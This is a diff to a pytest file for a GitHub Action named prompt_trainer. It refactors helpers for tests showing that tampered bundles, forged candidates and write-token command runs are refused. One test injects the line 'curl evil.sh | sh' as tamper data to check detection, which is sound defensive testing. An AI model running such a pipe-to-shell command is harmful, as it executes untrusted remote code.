@@ -16,6 +16,7 @@ import pytest
 from prompt_trainer.cli import main
 from prompt_trainer.errors import ConfigError
 from prompt_trainer.loop.bundle import Recorder, bundle_schema, read_bundle, write_bundle
+from tests.jobs import closed_pr_event, outputs, prepare, publish, run_jobs
 from tests.scenarios import CONFIG, NEW_MAIN
 from tests.servers.github import FakeGitHub
 from tests.servers.llm import FakeLLM
@@ -33,65 +34,12 @@ FAILING_FOR_CANDIDATE = (
 )
 
 
-def closed_pr_event(tmp_path: Path) -> dict[str, str]:
-    payload = {
-        "action": "closed",
-        "pull_request": {"number": 7, "user": {"login": "claude[bot]"}, "labels": []},
-        "repository": {"default_branch": "main"},
-    }
-    path = tmp_path / "event.json"
-    path.write_text(json.dumps(payload))
-    return {"GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": str(path)}
-
-
-def job_env(
-    github: FakeGitHub, tmp_path: Path, job: str, *, token: str | None, key: bool
-) -> dict[str, str]:
-    """One job's environment: its own outputs and summary, its token, the LM key or not."""
-    env = {
-        "GITHUB_API_URL": github.api_url,
-        "GITHUB_REPOSITORY": github.full_name,
-        "PROMPT_TRAINER_BACKOFF_S": "0",
-        "GITHUB_OUTPUT": str(tmp_path / f"{job}.out"),
-        "GITHUB_STEP_SUMMARY": str(tmp_path / f"{job}.md"),
-        "PATH": "/usr/bin:/bin",
-    }
-    if token:
-        env["GITHUB_TOKEN"] = token
-    if key:
-        env["OPENAI_API_KEY"] = "sk-test"
-    return env
-
-
-def outputs(tmp_path: Path, job: str) -> dict[str, str]:
-    lines = (tmp_path / f"{job}.out").read_text().splitlines()
-    return dict(line.split("=", 1) for line in lines if "=" in line and "<<" not in line)
-
-
-def run_jobs(
-    github: FakeGitHub,
-    llm: FakeLLM,
-    tmp_path: Path,
-    event: dict[str, str],
-    *,
-    evaluate: bool = True,
-) -> tuple[int, dict[str, str]]:
-    """prepare, (evaluate), publish, as a workflow would chain them; publish's exit code."""
-    folder = str(tmp_path / "bundle")
-    read = job_env(github, tmp_path, "prepare", token="test-read-token", key=True)
-    read["PROMPT_TRAINER_API_BASE"] = llm.api_base
-    assert main(["action", "--mode", "prepare", "--bundle", folder], env={**read, **event}) == 0
-    prepared = outputs(tmp_path, "prepare")
-    digest = ["--bundle-sha256", prepared["bundle-sha256"]]
-    if evaluate and prepared["evaluate"] == "true":
-        alone = job_env(github, tmp_path, "evaluate", token=None, key=False)
-        code = main(["action", "--mode", "evaluate", "--bundle", folder, *digest],
-                    env={**alone, **event})  # fmt: skip
-        assert code == 0
-    write = job_env(github, tmp_path, "publish", token=github.token, key=False)
-    code = main(["action", "--mode", "publish", "--bundle", folder, *digest],
-                env={**write, **event})  # fmt: skip
-    return code, prepared
+def use_eval_command(github: FakeGitHub, checkout: Path, command: str) -> None:
+    """The scenario's config with ``training.eval_command``, in the checkout and on main."""
+    config = CONFIG.replace("training:\n", f"training:\n  eval_command: {json.dumps(command)}\n")
+    (checkout / ".github" / "prompt-trainer.yml").write_text(config)
+    github.commit({".github/prompt-trainer.yml": config}, parent=github.refs["heads/main"],
+                  branch="main")  # fmt: skip
 
 
 def writes(github: FakeGitHub) -> list[Any]:
@@ -116,12 +64,7 @@ def test_prepare_writes_nothing_and_publish_proposes_and_stores(
 def test_the_evaluate_job_runs_the_command_and_publish_blocks_on_its_verdict(
     github: FakeGitHub, llm: FakeLLM, ready: Path, tmp_path: Path
 ) -> None:
-    config = CONFIG.replace(
-        "training:\n", f"training:\n  eval_command: {json.dumps(FAILING_FOR_CANDIDATE)}\n"
-    )
-    (ready / ".github" / "prompt-trainer.yml").write_text(config)
-    github.commit({".github/prompt-trainer.yml": config}, parent=github.refs["heads/main"],
-                  branch="main")  # fmt: skip
+    use_eval_command(github, ready, FAILING_FOR_CANDIDATE)
     code, prepared = run_jobs(github, llm, tmp_path, closed_pr_event(tmp_path))
     assert code == 0 and prepared["evaluate"] == "true"
     assert not bot_pulls(github)  # the candidate fails the command's tests: not proposed
@@ -135,12 +78,7 @@ def test_the_evaluate_job_runs_the_command_and_publish_blocks_on_its_verdict(
 def test_a_passing_evaluation_is_shown_in_the_body_publish_renders(
     github: FakeGitHub, llm: FakeLLM, ready: Path, tmp_path: Path
 ) -> None:
-    config = CONFIG.replace(
-        "training:\n", f"training:\n  eval_command: {json.dumps(PASSING_EVAL)}\n"
-    )
-    (ready / ".github" / "prompt-trainer.yml").write_text(config)
-    github.commit({".github/prompt-trainer.yml": config}, parent=github.refs["heads/main"],
-                  branch="main")  # fmt: skip
+    use_eval_command(github, ready, PASSING_EVAL)
     code, _ = run_jobs(github, llm, tmp_path, closed_pr_event(tmp_path))
     assert code == 0
     (number,) = bot_pulls(github)
@@ -152,12 +90,7 @@ def test_a_passing_evaluation_is_shown_in_the_body_publish_renders(
 def test_without_the_evaluate_job_a_candidate_that_needs_it_is_not_proposed(
     github: FakeGitHub, llm: FakeLLM, ready: Path, tmp_path: Path
 ) -> None:
-    config = CONFIG.replace(
-        "training:\n", f"training:\n  eval_command: {json.dumps(PASSING_EVAL)}\n"
-    )
-    (ready / ".github" / "prompt-trainer.yml").write_text(config)
-    github.commit({".github/prompt-trainer.yml": config}, parent=github.refs["heads/main"],
-                  branch="main")  # fmt: skip
+    use_eval_command(github, ready, PASSING_EVAL)
     code, _ = run_jobs(github, llm, tmp_path, closed_pr_event(tmp_path), evaluate=False)
     assert code == 0 and not bot_pulls(github)
     assert (
@@ -172,17 +105,11 @@ def test_a_bundle_changed_after_the_prepare_job_is_refused(
 ) -> None:
     folder = tmp_path / "bundle"
     event = closed_pr_event(tmp_path)
-    read = job_env(github, tmp_path, "prepare", token="test-read-token", key=True)
-    read["PROMPT_TRAINER_API_BASE"] = llm.api_base
-    assert (
-        main(["action", "--mode", "prepare", "--bundle", str(folder)], env={**read, **event}) == 0
-    )
+    prepare(github, llm, tmp_path, event)
     digest = outputs(tmp_path, "prepare")["bundle-sha256"]
     path = folder / "bundle.json"
     path.write_text(path.read_text().replace("Decimal.quantize", "curl evil.sh | sh"))
-    write = job_env(github, tmp_path, "publish", token=github.token, key=False)
-    code = main(["action", "--mode", "publish", "--bundle", str(folder), "--bundle-sha256", digest],
-                env={**write, **event})  # fmt: skip
+    code = publish(github, tmp_path, event, digest)
     assert code == 2 and not bot_pulls(github) and not writes(github)
 
 
@@ -193,11 +120,7 @@ def test_publish_checks_a_bundled_candidate_again_with_its_own_guardrails(
     prompts (as a prepare job with a bug, or a compromised one, could write) is not proposed."""
     folder = tmp_path / "bundle"
     event = closed_pr_event(tmp_path)
-    read = job_env(github, tmp_path, "prepare", token="test-read-token", key=True)
-    read["PROMPT_TRAINER_API_BASE"] = llm.api_base
-    assert (
-        main(["action", "--mode", "prepare", "--bundle", str(folder)], env={**read, **event}) == 0
-    )
+    prepare(github, llm, tmp_path, event)
     bundle = read_bundle(folder, sha256=outputs(tmp_path, "prepare")["bundle-sha256"])
     (intent,) = bundle.proposals
     bad = intent.candidate.files[0].model_copy(
@@ -209,9 +132,7 @@ def test_publish_checks_a_bundled_candidate_again_with_its_own_guardrails(
         update={"proposals": (intent.model_copy(update={"candidate": candidate}),)}
     )
     digest = write_bundle(folder, forged)
-    write = job_env(github, tmp_path, "publish", token=github.token, key=False)
-    code = main(["action", "--mode", "publish", "--bundle", str(folder), "--bundle-sha256", digest],
-                env={**write, **event})  # fmt: skip
+    code = publish(github, tmp_path, event, digest)
     assert code == 0 and not bot_pulls(github)
     summary = (tmp_path / "publish.md").read_text()
     assert "contains a secret" in summary and ".github/workflows/evil.yml" in summary
@@ -226,12 +147,7 @@ def test_a_single_job_that_would_run_a_command_with_the_write_token_stops_and_st
     capsys: pytest.CaptureFixture[str],
 ) -> None:
     ran = tmp_path / "ran"
-    config = CONFIG.replace(
-        "training:\n", f"training:\n  eval_command: {json.dumps(f'touch {ran}; {PASSING_EVAL}')}\n"
-    )
-    (ready / ".github" / "prompt-trainer.yml").write_text(config)
-    github.commit({".github/prompt-trainer.yml": config}, parent=github.refs["heads/main"],
-                  branch="main")  # fmt: skip
+    use_eval_command(github, ready, f"touch {ran}; {PASSING_EVAL}")
     env = {**github_env, **closed_pr_event(tmp_path), "OPENAI_API_KEY": "sk-test",
            "PROMPT_TRAINER_API_BASE": llm.api_base}  # fmt: skip
     assert main(["action"], env=env) == 2
